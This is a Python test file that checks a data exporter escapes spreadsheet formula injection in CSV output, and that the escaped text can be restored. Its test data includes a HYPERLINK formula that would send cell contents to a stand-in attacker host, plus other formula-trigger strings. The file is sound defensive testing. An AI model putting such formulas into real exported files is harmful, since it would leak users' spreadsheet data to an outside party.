"""In CSV for a spreadsheet program no text is run as a formula, and each one can be read again as it was."""

from __future__ import annotations

import csv
import io

import pyarrow as pa
import pytest

from warehouse.exporting.forms import Form, write
from warehouse.exporting.spreadsheets import unmarked

RUN = [
    '=HYPERLINK("https://evil.example/?" & A1, "read on")',
    "+1 for the toll",
    "-2+3",
    "@handle is wrong",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]
HARMLESS = ["It’s dear = unfair", "'Tis the toll", "1 - 1", "", "a@b.example", "–2 degrees", "'"]
AMBIGUOUS = ["'=1+1", "''=1+1"]


def opened(table: pa.Table) -> list[dict[str, str]]:
    """Write a table for a spreadsheet program, and read the cells."""
    sink = io.BytesIO()
    write(table.schema, table.to_batches(), "csv", sink, for_spreadsheet=True)
    return list(csv.DictReader(io.StringIO(sink.getvalue().decode("utf-8-sig"), newline="")))


def test_a_text_that_would_be_run_as_a_formula_has_an_apostrophe_before_it():
    rows = opened(pa.table({"title": RUN, "n": list(range(len(RUN)))}))
    assert [row["title"] for row in rows] == [f"'{text}" for text in RUN]


def test_other_texts_and_numbers_are_written_as_they_are():
    rows = opened(pa.table({"title": HARMLESS, "n": [-0.5] * len(HARMLESS)}))
    assert [(row["title"], row["n"]) for row in rows] == [(text, "-0.5") for text in HARMLESS]


def test_a_list_that_begins_with_such_a_text_has_an_apostrophe_before_it():
    rows = opened(pa.table({"authors": [["@handle", "Ada"], ["Ada", "@handle"], None], "n": [1, 2, 3]}))
    assert [row["authors"] for row in rows] == ["'@handle; Ada", "Ada; @handle", ""]


def test_each_text_can_be_read_again_as_it_was():
    texts = [*RUN, *HARMLESS, *AMBIGUOUS]
    rows = opened(pa.table({"title": texts, "n": list(range(len(texts)))}))
    assert [unmarked(row["title"]) for row in rows] == texts


def test_the_file_begins_with_a_byte_order_mark_so_that_its_encoding_is_known():
    table, sink = pa.table({"title": ["It’s dear"]}), io.BytesIO()
    write(table.schema, table.to_batches(), "csv", sink, for_spreadsheet=True)
    assert sink.getvalue() == b"\xef\xbb\xbf" + "title\nIt’s dear\n".encode()


def test_files_for_programs_have_every_text_as_it_is():
    table, sink = pa.table({"title": RUN[3:4]}), io.BytesIO()
    write(table.schema, table.to_batches(), "csv", sink)
    assert sink.getvalue() == b"title\n@handle is wrong\n"


@pytest.mark.parametrize("form", ["jsonl", "parquet"])
def test_the_other_forms_are_the_same_for_both(form: Form):
    table, for_programs, for_spreadsheets = pa.table({"title": RUN}), io.BytesIO(), io.BytesIO()
    write(table.schema, table.to_batches(), form, for_programs)
    write(table.schema, table.to_batches(), form, for_spreadsheets, for_spreadsheet=True)
    assert for_spreadsheets.getvalue() == for_programs.getvalue()
